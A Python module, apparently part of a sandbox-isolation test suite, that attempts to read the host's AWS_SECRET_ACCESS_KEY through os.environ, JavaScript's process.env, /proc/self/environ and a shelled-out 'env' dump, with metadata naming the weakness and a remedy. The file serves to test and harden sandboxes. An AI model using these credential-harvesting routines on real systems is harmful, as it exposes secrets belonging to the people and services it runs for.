# SPDX-License-Identifier: MIT
"""Goal:  the credentials in the environment of the process that runs the guest.
Means: every way that a Python has on one runtime or another: its own environment, the runtime's
       language (JavaScript, where the guest is in Node), the process's file of it, a program of the
       host's that prints it.
"""

import os

from attack import DONE, attempting, credential, denied, loot, telling


def of_python():
    return os.environ.get("AWS_SECRET_ACCESS_KEY")


def of_javascript():
    import js

    return js.process.env.AWS_SECRET_ACCESS_KEY


def of_process():
    with open("/proc/self/environ", "rb") as file:
        found = credential(file.read())
    return found and found.decode()


def of_program():
    path = "/tmp/environment"
    os.system(f"env > {path}")
    with open(path) as file:
        return next((line for line in file if line.startswith("AWS_SECRET")), None)


def run(brief):
    attempting()
    why = None
    for way in of_python, of_javascript, of_process, of_program:
        try:
            found = way()
            why = telling(why, "it is not there")
        except Exception as error:  # each runtime refuses in its own words
            found, why = None, telling(why, error)
        if found:
            loot(found)
            return DONE
    return denied("the host's environment", why)


ATTACK = {
    "effect": "the credentials of the process around the guest leave in the student's output",
    "means": "os.environ, JavaScript's process.env, /proc/self/environ, env(1)",
    "oracle": "secret:environ",
    "quick": True,
    "attack_id": "T1552.001, CWE-526",
    "remedy": "a host that is started with an empty environment, and a guest without its language",
    "run": run,
}
